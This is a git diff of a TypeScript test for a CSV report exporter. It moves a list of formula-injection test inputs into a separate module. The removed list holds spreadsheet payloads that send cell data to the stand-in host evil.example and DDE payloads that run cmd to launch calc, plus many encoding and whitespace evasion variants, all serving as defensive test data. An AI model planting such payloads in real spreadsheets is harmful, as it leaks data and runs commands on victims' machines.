@@ -4,51 +4,8 @@ import Papa from 'papaparse'
 import { describe, expect, test } from 'vitest'
 import { csvOf, plainOf } from '../../src/report/csv.ts'
 import { unzipped } from '../../src/report/zipped.ts'
+import { CELLS } from './cells.ts'
 import { converted, hasOffice } from './office.ts'
-
-/** What comes alive in some program or other, or nearly does. */
-const CELLS = [
-  '=1+1',
-  '+1+1',
-  '-1+1',
-  '@SUM(1;1)',
-  '\t=1+1',
-  '\r=1+1',
-  '\n=1+1',
-  '\r\n=1+1',
-  ' =1+1',
-  '   @SUM(1;1)',
-  '"=1+1',
-  '"=1+1"',
-  "'=1+1",
-  "''=1+1",
-  '＝1+1',
-  '＋1+1',
-  '－1+1',
-  '＠SUM(1;1)',
-  '\u00A0=1+1',
-  '\u3000＝1+1',
-  '\uFEFF=1+1',
-  '\u200B=1+1',
-  '“=1+1”',
-  '‘=1+1',
-  '`=1+1',
-  '"\t=1+1',
-  ' "\'=1+1',
-  '=HYPERLINK("https://evil.example?"&A1,"here")',
-  '=WEBSERVICE("https://evil.example/"&A1)',
-  "=cmd|'/C calc'!A0",
-  "+cmd|' /C calc'!A0",
-  "-2+3+cmd|' /C calc'!A0",
-  '@import',
-  '=IMPORTXML("https://evil.example","//a")',
-  '=DDE("cmd";"/C calc";"1")',
-  '{=1+1}',
-  ';=1+1',
-  ',=1+1',
-  'words, "quoted"\nand more',
-  '- not a list, just a dash',
-] as const
 
 const tableOf = (cells: readonly string[]) => [
   { name: 'cells', rows: [['said', 'at'], ...cells.map((cell, at) => [cell, String(at)])] },
